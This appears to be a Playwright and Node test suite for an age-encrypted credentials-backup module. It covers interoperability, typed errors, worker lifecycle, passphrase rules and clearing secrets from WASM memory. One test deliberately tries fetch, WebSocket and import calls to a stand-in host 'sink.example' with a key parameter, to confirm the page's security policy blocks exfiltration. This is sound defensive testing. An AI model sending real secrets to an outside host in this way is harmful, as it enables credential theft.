// Backups: made and opened by the page's worker and by the package in Node, each read by another implementation of age, and read from it.
import * as age from "age-encryption";
import { cpSync } from "node:fs";
import { fileURLToPath } from "node:url";
import * as backup from "../../dist/npm/node/backup.js";
import load from "../../dist/npm/wasm/stark_credentials_backup.js";
import { EXCHANGE, expect, serveAt, test } from "./support/page.js";

const PASSPHRASE = "correct horse battery staple ü€🗝";
const TEXT = JSON.stringify({ starkKey: "071c5e3a9f24d8b6".repeat(4), note: "ü€🗝" }).repeat(100);
const PACKAGE = new URL("../../dist/npm/", import.meta.url);

/**
 * Encrypts with the other implementation.
 * @param {string | Uint8Array} content
 * @param {number} [workFactor]
 */
async function theirs(content, workFactor = 10) {
  const encrypter = new age.Encrypter();
  encrypter.setPassphrase(PASSPHRASE);
  encrypter.setScryptWorkFactor(workFactor);
  return encrypter.encrypt(content);
}

/**
 * Decrypts with the other implementation.
 * @param {string} file
 */
async function openedByThem(file) {
  const decrypter = new age.Decrypter();
  decrypter.addPassphrase(PASSPHRASE);
  return decrypter.decrypt(age.armor.decode(file), "text");
}

/** @param {() => unknown} call */
const thrownBy = (call) => {
  try {
    call();
  } catch (error) {
    return error;
  }
};

test.describe("the page's worker", () => {
  /** @type {Awaited<ReturnType<typeof serveAt>>} */
  let requests;

  test.beforeEach(async ({ page, context }) => {
    requests = await serveAt(context);
    await page.goto(EXCHANGE);
    await expect(page.locator("h1")).toBeVisible();
  });

  /**
   * Calls a function of `ui/backup.js`; an error comes back as what the page sees of it.
   * @param {import("@playwright/test").Page} page
   * @param {keyof typeof import("../../www/ui/backup.js")} name
   * @param {...(string | Uint8Array)} parameters
   */
  const ask = (page, name, ...parameters) =>
    page.evaluate(async ([name, parameters]) => {
      const calls = await import(`${location.origin}/ui/backup.js`);
      const { CredentialError } = await import(`${location.origin}/stark-credentials/web.js`);
      try {
        return await calls[name](...parameters);
      } catch (error) {
        return error instanceof /** @type {typeof backup.CredentialError} */ (CredentialError)
          ? { code: error.code, message: error.message }
          : String(error);
      }
    }, /** @type {const} */ ([name, parameters]));

  test("nothing of it is loaded before somebody asks", async ({ page }) => {
    // But for the few lines that know how to ask.
    const ofBackup = () =>
      requests
        .filter(({ url }) => url.includes("backup") && !url.endsWith("/ui/backup.js"))
        .map(({ url }) => new URL(url).pathname)
        .sort();
    expect(ofBackup()).toEqual([]);
    expect(page.workers()).toEqual([]);
    expect((await ask(page, "generatePassphrase")).split("-")).toHaveLength(10);
    expect(ofBackup()).toEqual([
      "/stark-credentials/backup-api.js",
      "/stark-credentials/backup-web.js",
      "/stark-credentials/wasm/stark_credentials_backup.js",
      "/stark-credentials/wasm/stark_credentials_backup_bg.wasm",
      "/ui/backup-worker.js",
    ]);
  });

  test("the page's policy holds in the worker too, though its file comes without one", async ({ page }) => {
    await ask(page, "generatePassphrase");
    const [worker] = page.workers();
    const before = requests.length;
    const refused = await worker.evaluate(async () => {
      const violation = () =>
        new Promise((resolve) => addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), { once: true }));
      const sink = "https://sink.example/?key=1";
      /** @type {(() => unknown)[]} */
      const ways = [() => fetch(sink), () => new WebSocket("wss://sink.example/?key=1"), () => import(sink)];
      const directives = [];
      for (const way of ways) {
        const stopped = violation();
        try {
          await way();
        } catch {
          // Most throw as well.
        }
        directives.push(await stopped);
      }
      return directives;
    });
    expect(refused).toEqual(["connect-src", "connect-src", "script-src-elem"]);
    expect(requests.slice(before)).toEqual([]);
  });

  test("what it encrypts, another implementation of age decrypts; and so does it", async ({ page }) => {
    const file = await ask(page, "encryptBackup", TEXT, PASSPHRASE);
    expect(file).toMatch(/^-----BEGIN AGE ENCRYPTED FILE-----\n/);
    expect(Buffer.from(age.armor.decode(file)).toString("latin1")).toMatch(/^age-encryption\.org\/v1\n-> scrypt \S+ 18\n/);
    expect(await openedByThem(file)).toBe(TEXT);
    expect(await ask(page, "decryptBackup", file, PASSPHRASE)).toBe(TEXT);
    await expect.poll(() => page.workers().length).toBe(0);
  });

  test("what the other one encrypts, it decrypts: armored and binary", async ({ page }) => {
    const file = await theirs(TEXT);
    expect(await ask(page, "decryptBackup", age.armor.encode(file), PASSPHRASE)).toBe(TEXT);
    const binary = await page.evaluate(
      async ([digits, passphrase]) => {
        const { decryptBackup } = await import(`${location.origin}/ui/backup.js`);
        return decryptBackup(Uint8Array.from(digits), passphrase);
      },
      /** @type {const} */ ([[...file], PASSPHRASE]),
    );
    expect(binary).toBe(TEXT);
  });

  test("what can't be opened is a typed error", async ({ page }) => {
    const file = age.armor.encode(await theirs(TEXT));
    expect(await ask(page, "decryptBackup", file, "wrong")).toMatchObject({
      code: "BACKUP_PASSPHRASE_WRONG",
      message: expect.stringContaining("try again"),
    });
    expect(await ask(page, "decryptBackup", file.slice(0, 600), PASSPHRASE)).toMatchObject({ code: "BACKUP_DAMAGED" });
    expect(await ask(page, "encryptBackup", TEXT, "")).toMatchObject({ code: "PASSPHRASE_EMPTY" });
    await expect.poll(() => page.workers().length).toBe(0);
  });

  test("the page goes on while it works", async ({ page }) => {
    const { longest, ticks, took } = await page.evaluate(async ([text, passphrase]) => {
      const { encryptBackup } = await import(`${location.origin}/ui/backup.js`);
      const start = performance.now();
      let [last, longest, ticks, working] = [start, 0, 0, true];
      const tick = () => {
        const now = performance.now();
        longest = Math.max(longest, now - last);
        last = now;
        ticks++;
        if (working) setTimeout(tick);
      };
      tick();
      await encryptBackup(text, passphrase);
      working = false;
      tick();
      return { longest, ticks, took: last - start };
    }, /** @type {const} */ ([TEXT, PASSPHRASE]));
    // Were it frozen, the longest pause would be nearly all of it.
    expect(longest).toBeLessThan(took / 4);
    expect(ticks).toBeGreaterThan(20);
  });

  test("aborting ends the work and the worker", async ({ page }) => {
    await page.evaluate(async ([text, passphrase]) => {
      const { encryptBackup } = await import(`${location.origin}/ui/backup.js`);
      const stopping = new AbortController();
      const outcome = encryptBackup(text, passphrase, { signal: stopping.signal }).catch((/** @type {unknown} */ error) => error);
      Object.assign(window, { stopping, outcome });
    }, /** @type {const} */ ([TEXT, PASSPHRASE]));
    await expect.poll(() => page.workers().length).toBe(1);
    const [worker] = page.workers();
    const closed = worker.waitForEvent("close");
    const { code, reason } = await page.evaluate(async () => {
      const { stopping, outcome } = /** @type {any} */ (window);
      stopping.abort("enough");
      const { code, cause } = await outcome;
      return { code, reason: cause };
    });
    expect({ code, reason }).toEqual({ code: "CANCELLED", reason: "enough" });
    await closed;
    expect(page.workers()).toEqual([]);
  });

  test("a signal that is aborted already starts nothing that stays", async ({ page }) => {
    const code = await page.evaluate(async () => {
      const { decryptBackup } = await import(`${location.origin}/ui/backup.js`);
      return decryptBackup("", "x", { signal: AbortSignal.abort() }).catch((/** @type {any} */ error) => error.code);
    });
    expect(code).toBe("CANCELLED");
    await expect.poll(() => page.workers().length).toBe(0);
  });

  test("questions about passphrases share a worker, which ends when none comes", async ({ page }) => {
    await page.clock.install();
    let started = 0;
    page.on("worker", () => started++);
    expect(await ask(page, "checkPassphrase", "fifteen letters")).toMatchObject({ code: "PASSPHRASE_TOO_SHORT" });
    expect(await ask(page, "checkPassphrase", "a".repeat(16))).toMatchObject({ code: "PASSPHRASE_TOO_SIMPLE" });
    expect(await ask(page, "checkPassphrase", PASSPHRASE)).toBeUndefined();
    expect(started).toBe(1);
    expect(page.workers()).toHaveLength(1);
    await page.clock.fastForward(10_000);
    await expect.poll(() => page.workers().length).toBe(0);
    expect(await ask(page, "generatePassphrase")).toMatch(/^([a-z]{3,8}-){9}[a-z]{3,8}$/);
    expect(started).toBe(2);
  });

  test.describe("without its module", () => {
    test.use({ troubled: true });

    test("it says that it could not be loaded, and the next call tries again", async ({ page, context }) => {
      const missing = (/** @type {import("@playwright/test").Route} */ route) => route.fulfill({ status: 404 });
      for (const file of ["**/*_backup_bg.wasm", "**/ui/backup-worker.js"]) {
        await context.route(file, missing);
        expect(await ask(page, "generatePassphrase")).toMatchObject({ code: "INIT_FAILED" });
        expect(await ask(page, "encryptBackup", TEXT, PASSPHRASE)).toMatchObject({ code: "INIT_FAILED" });
        await context.unroute(file, missing);
      }
      expect((await ask(page, "generatePassphrase")).split("-")).toHaveLength(10);
    });
  });
});

test.describe("the package in Node", () => {
  test.beforeAll(() => backup.initBackup());

  /**
   * The package once more, from a copy of its files: its scripts as they are before `initBackup`.
   * @param {string} name
   * @returns {Promise<typeof backup>}
   */
  async function anew(name) {
    const copy = test.info().outputPath(name);
    cpSync(fileURLToPath(PACKAGE), copy, { recursive: true });
    return import(`${copy}/node/backup.js`);
  }

  test("before initBackup every call says so; a failure is not kept; two at once are one", async () => {
    const fresh = await anew("fresh");
    for (const call of [
      () => fresh.generatePassphrase(),
      () => fresh.encryptBackup("", ""),
      () => fresh.decryptBackup("", ""),
      () => fresh.checkPassphrase(""),
    ]) {
      expect(thrownBy(call)).toMatchObject({ name: "CredentialError", code: "NOT_INITIALISED" });
    }
    await expect(fresh.initBackup(new Uint8Array([1, 2, 3]))).rejects.toMatchObject({ name: "CredentialError", code: "INIT_FAILED" });
    const [first, second] = [fresh.initBackup(), fresh.initBackup()];
    expect(first).toBe(second);
    await first;
    expect(fresh.generatePassphrase().split("-")).toHaveLength(10);
  });

  test("there and back, and with the other implementation", async () => {
    const file = backup.encryptBackup(TEXT, PASSPHRASE);
    expect(await openedByThem(file)).toBe(TEXT);
    expect(backup.decryptBackup(file, PASSPHRASE)).toBe(TEXT);
    const other = await theirs(TEXT, 16);
    expect(backup.decryptBackup(other, PASSPHRASE)).toBe(TEXT);
    expect(backup.decryptBackup(Buffer.from(other), PASSPHRASE)).toBe(TEXT);
    expect(backup.decryptBackup(age.armor.encode(other), PASSPHRASE)).toBe(TEXT);
    expect(backup.decryptBackup(Buffer.from(age.armor.encode(other)), PASSPHRASE)).toBe(TEXT);
  });

  test("what can't be opened is a typed error", async () => {
    const file = await theirs(TEXT);
    const encrypter = new age.Encrypter();
    encrypter.addRecipient(await age.identityToRecipient(await age.generateX25519Identity()));
    const toKey = await encrypter.encrypt(TEXT);
    const hard = Buffer.from(
      Buffer.from(file)
        .toString("latin1")
        .replace(/^(-> scrypt \S+) 10$/m, "$1 21"),
      "latin1",
    );
    for (const [bytes, passphrase, code] of /** @type {const} */ ([
      [file, "wrong", "BACKUP_PASSPHRASE_WRONG"],
      [file, "", "PASSPHRASE_EMPTY"],
      [file.subarray(0, -1), PASSPHRASE, "BACKUP_DAMAGED"],
      [await theirs(new Uint8Array([0xff])), PASSPHRASE, "BACKUP_DAMAGED"],
      [new Uint8Array(), PASSPHRASE, "BACKUP_DAMAGED"],
      [toKey, PASSPHRASE, "BACKUP_NOT_PASSPHRASE"],
      [hard, PASSPHRASE, "BACKUP_TOO_HARD"],
    ])) {
      expect(
        thrownBy(() => backup.decryptBackup(bytes, passphrase)),
        code,
      ).toMatchObject({ name: "CredentialError", code });
    }
  });

  test("the rule for a passphrase of one's own holds where one is chosen, and nowhere else", () => {
    for (const [passphrase, code] of [
      ["", "PASSPHRASE_TOO_SHORT"],
      ["fifteen letters", "PASSPHRASE_TOO_SHORT"],
      ["🗝".repeat(15), "PASSPHRASE_TOO_SHORT"],
      ["🗝".repeat(16), "PASSPHRASE_TOO_SIMPLE"],
      ["1234567890123456", "PASSPHRASE_TOO_SIMPLE"],
      ["абвгдежзийклмноп", "PASSPHRASE_TOO_SIMPLE"],
    ]) {
      expect(
        thrownBy(() => backup.checkPassphrase(passphrase)),
        passphrase,
      ).toMatchObject({ name: "CredentialError", code });
      if (passphrase !== "") expect(backup.decryptBackup(backup.encryptBackup(TEXT, passphrase, 1), passphrase)).toBe(TEXT);
    }
    for (const passphrase of [PASSPHRASE, "sixteen letters!", "мой кот не любит дождь", backup.generatePassphrase()])
      backup.checkPassphrase(passphrase);
  });

  test("arguments of a wrong type are a typed error", () => {
    const anything = /** @type {any} */ (backup);
    for (const value of [undefined, null, 5, {}, [], Symbol("x"), 10n]) {
      for (const call of [
        () => anything.encryptBackup(value, "x"),
        () => anything.encryptBackup("", value),
        () => anything.decryptBackup(value, "x"),
        () => anything.decryptBackup("", value),
        () => anything.checkPassphrase(value),
      ]) {
        expect(thrownBy(call), String(value)).toMatchObject({ code: "OPTION_INVALID" });
      }
    }
    for (const workFactor of [0, 21, 255, 256, 274, -1, 10.5, Number.NaN, Infinity, "10", null, {}]) {
      expect(
        thrownBy(() => anything.encryptBackup("", "x", workFactor)),
        String(workFactor),
      ).toMatchObject({ code: "OPTION_INVALID" });
    }
    expect(backup.decryptBackup(backup.encryptBackup("", "x", 10), "x")).toBe("");
  });

  test("no passphrase and no text is left in the module's memory", async () => {
    // It is loaded already: what comes back is the instance that the package uses.
    const { memory } = await load({ module_or_path: new Uint8Array() });
    const needles = [Buffer.from("battery staple"), Buffer.from("071c5e3a9f24d8b6")];
    const found = () => needles.filter((needle) => Buffer.from(memory.buffer).includes(needle)).map(String);
    const file = backup.encryptBackup(TEXT, PASSPHRASE, 10);
    expect(backup.decryptBackup(file, PASSPHRASE)).toBe(TEXT);
    backup.checkPassphrase(PASSPHRASE);
    thrownBy(() => backup.decryptBackup(file, `${PASSPHRASE}!`));
    thrownBy(() => backup.decryptBackup(file.replaceAll(/[A-Z]{3}/g, "AAA"), PASSPHRASE));
    expect(found()).toEqual([]);
    const made = backup.generatePassphrase();
    expect(Buffer.from(memory.buffer).includes(made)).toBe(false);
    // The control: the search finds what is there.
    new Uint8Array(memory.buffer).set(needles[0], memory.buffer.byteLength - 64);
    expect(found()).toEqual(["battery staple"]);
    new Uint8Array(memory.buffer).fill(0, memory.buffer.byteLength - 64);
  });
});
